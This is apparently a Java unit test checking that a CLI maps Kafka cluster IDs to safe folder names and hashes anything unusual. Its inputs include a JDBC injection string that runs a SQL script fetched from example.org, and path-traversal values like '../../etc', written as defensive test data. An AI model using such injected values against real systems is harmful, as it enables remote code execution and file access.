package io.tidemark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.apache.kafka.common.Uuid;
import org.junit.jupiter.api.Test;

class ClusterFolderTest {
  @Test
  void anIdOfKafkasIsTheFoldersName() {
    for (int i = 0; i < 100; i++) {
      String id = Uuid.randomUuid().toString();
      assertThat(ClusterFolder.name(id)).isEqualTo(id);
    }
  }

  @Test
  void anyOtherIdBecomesAHash() {
    for (String id :
        List.of(
            "x;INIT=RUNSCRIPT FROM 'http://example.org/x.sql'",
            "../../etc",
            "..",
            "",
            "lkc-1a2b3",
            "MkU3OEVBNTcwNTJENDM2Qk\n",
            "a".repeat(100_000))) {
      assertThat(ClusterFolder.name(id)).matches("sha256-[0-9a-f]{32}");
    }
    assertThat(ClusterFolder.name(null)).matches("sha256-[0-9a-f]{32}");
    assertThat(ClusterFolder.name("lkc-1a2b3")).isNotEqualTo(ClusterFolder.name("lkc-1a2b4"));
  }
}
